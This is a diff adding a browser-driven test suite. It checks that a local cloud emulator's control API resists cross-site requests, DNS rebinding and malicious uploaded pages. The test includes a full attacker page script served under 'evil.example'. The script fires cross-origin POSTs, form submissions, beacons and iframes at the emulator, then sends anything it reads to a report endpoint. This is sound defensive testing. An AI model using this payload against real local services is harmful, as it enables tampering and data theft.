@@ -1,0 +1,150 @@
+/** What pages in a real browser can do to an emulator on the same machine. Left out where no Chromium is installed. */
+
+import { once } from 'node:events'
+import { createServer } from 'node:http'
+import { type AddressInfo, connect } from 'node:net'
+import AliOss from 'ali-oss'
+import { describe, expect, onTestFinished, test } from 'vitest'
+import { chromium, withPage } from '../support/chromium.js'
+import { VIDEO_URL } from '../support/cloud.js'
+import { testEmulator } from '../support/sdk.js'
+
+const CHANGES = ['/reset', '/scenarios/brown-out', '/accounts', '/accounts/fork', '/jobs/release', '/settle', '/clock/advance']
+
+/** Tries everything on the emulator at `target`, then sends what it could read to `report`. */
+const attack = (target: string, report: string): string => `<!doctype html><body><script type="module">
+  const api = '${target}/_emulator'
+  const read = []
+  const tryTo = async (what, work) => {
+    try {
+      const text = await work()
+      if (text) read.push([what, text])
+    } catch {}
+  }
+  const frame = (fill) => new Promise((resolve) => {
+    const made = document.createElement('iframe')
+    made.onload = () => setTimeout(() => resolve(made), 200)
+    fill(made)
+    document.body.append(made)
+  })
+  for (const path of ${JSON.stringify(CHANGES)}) {
+    await tryTo(path, () => fetch(api + path, { method: 'POST', mode: 'no-cors' }).then((it) => it.text()))
+    await tryTo(path, () => fetch(api + path, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"by":"1h"}' }).then((it) => it.text()))
+    navigator.sendBeacon(api + path, '{"by":"1h"}')
+    await tryTo(path, async () => {
+      await frame((made) => { made.name = path })
+      const form = Object.assign(document.createElement('form'), { method: 'post', action: api + path, target: path })
+      document.body.append(form)
+      form.submit()
+    })
+    await frame((made) => {
+      made.sandbox = 'allow-scripts'
+      made.srcdoc = '<script>fetch("' + api + path + '", { method: "POST", mode: "no-cors" })<' + '/script>'
+    })
+  }
+  await tryTo('PUT', () => fetch(api + '/clock', { method: 'PUT', headers: { 'content-type': 'application/json' }, body: '{"speed":7}' }).then((it) => it.text()))
+  await tryTo('state', () => fetch(api + '/state').then((it) => it.text()))
+  await tryTo('frame', async () => (await frame((made) => { made.src = api + '/state' })).contentDocument?.body.textContent)
+  await fetch('${report}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(read) })
+</script>`
+
+/** An emulator, and a page that the attacker serves: under `evil.example`, and everything else there leads to the emulator, as after rebinding. */
+async function world() {
+  const emulator = await testEmulator()
+  onTestFinished(emulator.close)
+  const { cloud } = emulator
+  const account = cloud.account()
+  await account.putAssets([{ url: VIDEO_URL }])
+  let created = 0
+  const { createAccount } = cloud
+  cloud.createAccount = (options) => {
+    created++
+    return createAccount(options)
+  }
+  const before = JSON.stringify(await account.export())
+
+  let page = ''
+  let told: (read: [what: string, text: string][]) => void
+  const report = new Promise<[what: string, text: string][]>((resolve) => {
+    told = resolve
+  })
+  const attacker = createServer((request, response) => {
+    if (request.url === '/') return response.setHeader('content-type', 'text/html').end(page)
+    if (request.url === '/report') {
+      const chunks: Buffer[] = []
+      request.on('data', (chunk) => chunks.push(chunk))
+      request.on('end', () => told(JSON.parse(String(Buffer.concat(chunks)))))
+      return response.end()
+    }
+    const to = connect(Number(new URL(emulator.url).port), '127.0.0.1')
+    const lines = request.rawHeaders.flatMap((name, index) => (index % 2 === 0 ? [`${name}: ${request.rawHeaders[index + 1]}`] : []))
+    to.write(
+      `${request.method} ${request.url} HTTP/1.1\r\n${lines.filter((line) => !/^connection:/i.test(line)).join('\r\n')}\r\nConnection: close\r\n\r\n`,
+    )
+    request.pipe(to, { end: false })
+    to.on('error', () => {})
+    to.pipe(response.socket as NodeJS.WritableStream)
+  }).listen(0, '127.0.0.1')
+  await once(attacker, 'listening')
+  onTestFinished(() => {
+    attacker.close()
+    attacker.closeAllConnections()
+  })
+  const { port } = attacker.address() as AddressInfo
+  return {
+    ...emulator,
+    port,
+    /** Has a page attack; resolves once it has reported. */
+    async attackFrom(origin: string, target: string): Promise<[what: string, text: string][]> {
+      page = attack(target, `http://127.0.0.1:${port}/report`)
+      return withPage(`${origin}/`, () => report)
+    },
+    report,
+    /** What is different now. */
+    async changes() {
+      return { created, changed: JSON.stringify(await account.export()) !== before }
+    },
+  }
+}
+
+const UNTOUCHED = { created: 0, changed: false }
+
+describe.skipIf(chromium === undefined)('a page changes and reads nothing', { timeout: 60_000 }, () => {
+  test('of another port of the same machine', async () => {
+    const { port, url, attackFrom, changes } = await world()
+    expect(await attackFrom(`http://127.0.0.1:${port}`, url)).toEqual([])
+    expect(await changes()).toEqual(UNTOUCHED)
+  })
+
+  test('of another site', async () => {
+    const { port, url, attackFrom, changes } = await world()
+    expect(await attackFrom(`http://evil.example:${port}`, url.replace('127.0.0.1', 'localhost'))).toEqual([])
+    expect(await changes()).toEqual(UNTOUCHED)
+  })
+
+  test('under a name that has been made to lead here', async () => {
+    const { port, attackFrom, changes } = await world()
+    const read = await attackFrom(`http://evil.example:${port}`, `http://evil.example:${port}`)
+    // It has the right to read answers of its own origin; so it is told that there is nothing for it.
+    expect(read.length).toBeGreaterThan(CHANGES.length)
+    for (const [, text] of read) expect(text).toContain('the control API does not answer')
+    expect(await changes()).toEqual(UNTOUCHED)
+  })
+
+  test('that was uploaded with keys that everybody knows', async () => {
+    const { cloud, url, port, report, changes } = await world()
+    const { oss, credentials } = cloud.account()
+    oss.createBucket('test-uploads', 'cn-shanghai')
+    const client = new AliOss({
+      endpoint: url.replace('127.0.0.1', 'localhost'),
+      sldEnable: true,
+      bucket: 'test-uploads',
+      ...credentials,
+    } as AliOss.Options)
+    await client.put('page.html', Buffer.from(attack(url, `http://127.0.0.1:${port}/report`)), { mime: 'text/html' })
+    const { pathname, search } = new URL(client.signatureUrl('page.html'))
+    const assets = () => cloud.account().assets.list().rows.length
+    expect(await withPage(`${url}${pathname}${search}`, () => report)).toEqual([])
+    expect([assets(), (await changes()).created]).toEqual([1, 0])
+  })
+})
